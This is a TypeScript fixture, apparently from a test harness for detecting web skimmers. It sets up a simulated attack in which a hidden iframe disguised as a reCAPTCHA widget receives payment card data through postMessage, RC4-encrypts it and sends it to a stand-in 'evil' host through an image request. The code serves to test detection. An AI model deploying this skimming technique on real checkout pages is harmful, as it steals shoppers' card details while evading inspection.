import { holds, js, skimmer } from '../behaviour.ts';
import { query } from '../site/arrivals.ts';
import { rc4 } from '../ciphers.ts';
import { onPay, RC4 } from '../snippets.ts';

export default skimmer({
  id: 'postmessage-frame',
  why: "A frame of the attacker's gets the values by message, encrypts and sends them: the page itself speaks to nobody.",
  covers: ['cipher: any', 'sending: hidden form', 'disguise: known brand'],
  base: 'direct',
  install: (site) => {
    site.serve(
      'evil/widget',
      js`<script>${RC4}
onmessage = function (e) { new Image().src = '/w.gif?d=' + encodeURIComponent(btoa(rc4('frame-key', e.data.s))); };</script>`,
    );
    site.markup(
      `<iframe id="rc" src="${site.origins.evil.replace('evil', 'recaptcha.evil')}/widget" style="display:none"></iframe>`,
    );
    site.append(onPay(js`document.getElementById('rc').contentWindow.postMessage({ s: card() }, '*');`));
  },
  proof: holds((arrived) => query(arrived, 'd').map((text) => rc4('frame-key', Buffer.from(text, 'base64')))),
});
